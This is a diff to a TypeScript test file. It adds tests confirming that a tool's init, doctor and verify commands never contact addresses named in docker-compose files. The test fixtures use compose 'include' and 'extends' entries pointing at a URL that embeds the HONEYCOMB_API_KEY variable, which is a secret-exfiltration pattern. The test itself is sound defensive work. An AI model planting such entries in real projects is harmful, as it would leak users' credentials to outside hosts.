@@ -1,4 +1,5 @@
 /** Settings of a repository start no program, a remote is never asked, and no program is taken out of the workspace. */
+import { spawnSync } from 'node:child_process';
 import { createServer } from 'node:http';
 import { once } from 'node:events';
 import type { AddressInfo } from 'node:net';
@@ -33,6 +34,22 @@ describe('no program that a repository names is started', () => {
       expect(ran.err).not.toMatch(/does not know: /);
     }
     expect(asked).toEqual([]);
+  });
+});
+
+describe('Compose is not sent to an address that a compose file names', () => {
+  const path = pathWith('git', 'docker');
+  const hasCompose = spawnSync('docker', ['compose', 'version'], { env: { PATH: path, HOME: '/' } }).status === 0;
+  test.skipIf(!hasCompose).each([
+    ['include', `include:\n  - ${http}/\${HONEYCOMB_API_KEY}.git\n${FLASK['docker-compose.yml']}`],
+    ['extends', `${FLASK['docker-compose.yml']}  other:\n    extends:\n      file: ${http}/\${HONEYCOMB_API_KEY}.git\n      service: x\n`],
+  ])('%s', async (_, text) => {
+    const at = place({ ...FLASK, 'docker-compose.yml': text, '.env': 'COMPOSE_EXPERIMENTAL_GIT_REMOTE=true\n' });
+    asked.length = 0;
+    for (const argv of [['init', '--yes', '--offline', '--dry-run'], ['doctor', '--offline'], ['verify']]) {
+      await run(at, argv, { env: { ...KEY.env, PATH: path } });
+      expect(asked, argv.join(' ')).toEqual([]);
+    }
   });
 });
 
